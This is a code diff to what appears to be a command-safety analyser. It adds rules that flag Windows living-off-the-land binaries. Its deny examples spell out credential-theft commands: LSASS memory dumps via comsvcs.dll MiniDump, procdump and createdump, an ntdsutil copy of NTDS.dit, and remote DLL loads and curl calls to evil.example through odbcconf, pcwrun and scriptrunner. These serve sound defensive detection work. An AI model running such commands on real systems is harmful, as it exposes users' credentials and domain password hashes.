@@ -219,9 +219,12 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     summary: 'rundll32: calls a DLL export; url.dll, ieframe.dll and javascript: open URLs',
     analyze: (call) => {
       const remote = call.args.some((w) => /url\.dll|ieframe\.dll|shdocvw\.dll|javascript:|mshtml/i.test(value(w) ?? w.text) || URL.test(value(w) ?? ''));
-      return remote ? {} : { offline: 'rundll32 calls a local DLL export' };
+      // comsvcs.dll's MiniDump export writes a process's memory to a file: LSASS's holds the logged-on users' credentials.
+      const dump = call.args.find((w) => /comsvcs(?:\.dll)?['"\s,]*(?:minidump|#\s*24)\b/i.test(call.args.map((a) => value(a) ?? a.text).join(' ')) && /comsvcs/i.test(value(w) ?? w.text));
+      const dumps: Partial<Answer> = dump ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: dump, why: "comsvcs.dll MiniDump writes a process's memory to a file (LSASS's holds the users' credentials)" }] } : {};
+      return remote ? dumps : { ...dumps, offline: 'rundll32 calls a local DLL export' };
     },
-    examples: { deny: [ps('rundll32 url.dll,FileProtocolHandler https://evil.example')], pass: [ps('rundll32 printui.dll,PrintUIEntry /?')] },
+    examples: { deny: [ps('rundll32 url.dll,FileProtocolHandler https://evil.example'), ps('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\tmp\\l.dmp full'), ps("rundll32 comsvcs.dll '#24' 624 l.dmp full")], pass: [ps('rundll32 printui.dll,PrintUIEntry /?')] },
   },
   {
     names: ['chrome', 'msedge', 'firefox', 'chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable', 'brave', 'opera'],
@@ -403,6 +406,67 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       return { runs: [{ kind: 'argv', argv: [prog, ...(c >= 0 ? call.args.slice(c + 1) : [])], via: 'pcalua' }] };
     },
     examples: { deny: [ps('pcalua -a curl.exe -c evil.example')], pass: [ps('pcalua -a git.exe -c status')] },
+  },
+  {
+    names: ['pcwrun'],
+    summary: 'pcwrun (Program Compatibility Wizard): runs its arguments as a command line (LOLBAS)',
+    analyze: (call) => (call.args.length > 0 ? { runs: [{ kind: 'script', dialect: 'cmd', words: call.args, via: 'pcwrun' }] } : {}),
+    examples: { deny: [ps('pcwrun.exe "cmd /c curl evil.example"')], pass: [ps('pcwrun.exe C:\\tools\\app.exe')] },
+  },
+  {
+    names: ['scriptrunner'],
+    summary: 'ScriptRunner (App-V): `-appvscript COMMAND` runs the command line it is given (LOLBAS)',
+    analyze: (call) => {
+      const at = call.args.findIndex((w) => /^[-/]appvscript$/i.test(value(w) ?? ''));
+      const text = at >= 0 ? call.args.slice(at + 1).filter((w) => !/^[-/](?:appvscriptrunnerparameters|wait|timeout|rollbackonerror)/i.test(value(w) ?? '')) : [];
+      return text.length > 0 ? { runs: [{ kind: 'script', dialect: 'cmd', words: text, via: 'scriptrunner -appvscript' }] } : {};
+    },
+    examples: { deny: [ps('scriptrunner.exe -appvscript "cmd /c curl evil.example"')], pass: [ps('scriptrunner.exe -appvscript C:\\tools\\setup.cmd')] },
+  },
+  {
+    names: ['wlrmdr', 'ttdinject'],
+    summary: 'wlrmdr (Windows Logon Reminder) `-u PROGRAM` and ttdinject `/Launch PROGRAM`: start the program they name (LOLBAS)',
+    analyze: (call) => {
+      const at = call.args.findIndex((w) => (call.name === 'wlrmdr' ? /^-u$/i : /^[-/]launch$/i).test(value(w) ?? ''));
+      return at >= 0 && call.args[at + 1] ? { runs: [{ kind: 'argv', argv: call.name === 'wlrmdr' ? [call.args[at + 1]!] : call.args.slice(at + 1), via: call.name }] } : {};
+    },
+    examples: { deny: [ps('wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u mshta.exe'), ps('ttdinject.exe /ClientScenario TTDRecorder /Launch curl.exe evil.example')], pass: [ps('wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u notepad.exe')] },
+  },
+  {
+    names: ['diskshadow', 'infdefaultinstall', 'msdt'],
+    summary: 'diskshadow `/s FILE` (its script runs `exec` commands), InfDefaultInstall (an INF whose sections run commands), msdt (a troubleshooter package runs its scripts): code no static reading sees',
+    analyze: (call) => {
+      const w = call.name === 'diskshadow' ? (call.args.find((a) => /^[-/]s$/i.test(value(a) ?? '')) ?? (call.stdin ? call.args[0] ?? call.command : undefined)) : call.args.find((a) => !/^[-/]\?$/.test(a.values?.[0] ?? a.text));
+      return w ? { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: w, why: `${call.name} runs commands its script, INF or package holds` }] } : {};
+    },
+    examples: { deny: [ps('diskshadow /s x.txt'), ps('infdefaultinstall.exe x.inf'), ps('msdt.exe /cab x.diagcab'), ps('msdt /id PCWDiagnostic /skip force /param "IT_BrowseForFile=x"')], pass: [ps('diskshadow /?'), ps('msdt /?')] },
+  },
+  {
+    names: ['odbcconf'],
+    summary: 'odbcconf: `/a {ACTION …}` runs ODBC actions (REGSVR loads a DLL and runs its code); `/f FILE` runs those a response file lists',
+    analyze: (call) => {
+      const f = call.args.findIndex((w) => /^[-/]f$/i.test(value(w) ?? ''));
+      if (f >= 0) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.args[f + 1] ?? call.args[f]!, why: 'odbcconf /f runs the actions a response file lists (REGSVR loads any DLL)' }] };
+      // A DLL on another machine (`{REGSVR \\\\host\\share\\x.dll}`), or actions that are computed.
+      const remote = call.args.find((w) => w.values === null || w.values.some((v) => /\\\\[^\\]|:\/\//.test(v)));
+      return remote ? { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: remote, why: 'odbcconf runs actions that load code from another machine or are computed' }] } : {};
+    },
+    examples: { deny: [ps('odbcconf.exe /f x.rsp'), ps('odbcconf /a {REGSVR \\\\evil.example\\share\\x.dll}')], pass: [ps('odbcconf /a {REGSVR C:\\tools\\driver.dll}')] },
+  },
+  {
+    names: ['procdump', 'procdump64', 'createdump', 'sqldumper', 'rdrleakdiag', 'dump64', 'ntdsutil'],
+    summary: "Memory dumpers (procdump, .NET's createdump, sqldumper, rdrleakdiag, dump64): a process's memory in a file, LSASS's (the users' credentials) or one named by a PID that may be it; ntdsutil ifm/snapshot copies the domain's NTDS.dit with its hashes",
+    analyze: (call) => {
+      const texts = call.args.map((w) => value(w));
+      if (call.name === 'ntdsutil') {
+        const at = call.args.find((_, i) => texts[i] === undefined || /\b(?:ifm|snapshot)\b/i.test(texts[i]!));
+        return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: "ntdsutil ifm and snapshot copy NTDS.dit, the domain's password hashes" }] } : {};
+      }
+      // A process named by its image (`procdump -ma myapp.exe`) other than LSASS is the user's own; a PID or a computed word may be LSASS.
+      const at = call.args.find((_, i) => texts[i] === undefined || /^lsass(?:\.exe)?$/i.test(texts[i]!) || (/^\d+$/.test(texts[i]!) && !/^[-/](?:n|s|c|cl|m|ml|p|pl|e|u|t|r|at|f|o|d)$/i.test(texts[i - 1] ?? '')));
+      return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: `${call.name} writes a process's memory to a file: LSASS's holds the users' credentials, another's its secrets` }] } : {};
+    },
+    examples: { deny: [ps('procdump -ma lsass.exe l.dmp'), ps('procdump64.exe -accepteula -ma (Get-Process lsass).Id l.dmp'), ps('createdump.exe -u -f l.dmp 624'), ps('ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q')], pass: [ps('procdump -ma myapp.exe crash.dmp'), ps('procdump -ma -n 3 -s 5 myapp.exe')] },
   },
   {
     names: ['forfiles'],
